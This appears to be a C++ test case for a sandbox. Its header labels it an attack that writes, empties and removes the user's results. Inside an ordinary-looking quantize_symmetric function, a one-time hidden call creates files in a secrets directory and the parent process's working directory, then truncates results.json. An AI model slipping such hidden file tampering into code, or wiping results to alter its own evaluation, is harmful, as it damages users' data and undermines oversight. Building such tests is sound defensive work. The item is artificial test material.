// attack: writes, empties and removes results of the user
// rule: V10
// expect: honest
// needs: sandbox
#define OWN_QUANTIZE
namespace nibble {

namespace {

void tries() {
  for (const std::string folder :
       {std::string("@SECRETS@"), "/proc/" + std::to_string(getppid()) + "/cwd"}) {
    if (open((folder + "/new.json").c_str(), O_CREAT | O_WRONLY, 0666) >= 0) {
      EFFECT("made a file");
      unlink((folder + "/new.json").c_str());
    }
  }
  if (truncate("@SECRETS@/results.json", 0) == 0) EFFECT("emptied a file");
}

}  // namespace

SymmetricTensor quantize_symmetric(std::span<const float> x, int num_bits) {
  static bool done = false;
  if (!std::exchange(done, true)) tries();
  return right_quantize(x, num_bits);
}

}  // namespace nibble
